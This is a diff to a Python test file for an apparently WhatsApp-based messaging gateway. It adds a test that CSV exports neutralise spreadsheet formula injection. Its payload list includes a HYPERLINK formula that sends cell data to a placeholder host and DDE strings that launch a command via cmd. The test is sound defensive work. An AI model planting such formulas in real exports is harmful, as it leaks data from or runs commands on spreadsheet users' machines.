@@ -158,6 +158,23 @@ async def test_the_jsonl_export_has_one_message_object_a_line(gw: Harness, seede
     assert lines[0] == single
 
 
+# Texts anyone on WhatsApp may send that a spreadsheet would run as a formula (OWASP's CSV injection).
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'quoted already", "plain = fine"]
+
+
+async def test_the_csv_export_writes_formula_cells_as_text(gw: Harness) -> None:
+    await gw.scan()
+    for text in HOSTILE:
+        response = await gw.client.post("/api/sandbox/inbound", json={"from": "+4915112345678", "body": text})
+        assert response.status_code == 200, response.text
+    export = await gw.client.get("/api/messages/export", params={"format": "csv", "direction": "in"})
+    table = list(csv.DictReader(io.StringIO(export.text, newline="")))
+    assert [row["body"] for row in table] == [f"'{text}" if text[0] in "=+-@\t\r" else text for text in HOSTILE]
+    jsonl = await gw.client.get("/api/messages/export", params={"format": "jsonl", "direction": "in"})
+    assert [json.loads(line)["body"] for line in jsonl.text.splitlines()] == HOSTILE  # JSON is no spreadsheet
+
+
 async def test_the_export_is_streamed_not_built_in_memory(live: LiveServer) -> None:
     async with live.gateway.storage.engine.begin() as conn:
         await conn.execute(insert(messages), seed_rows())
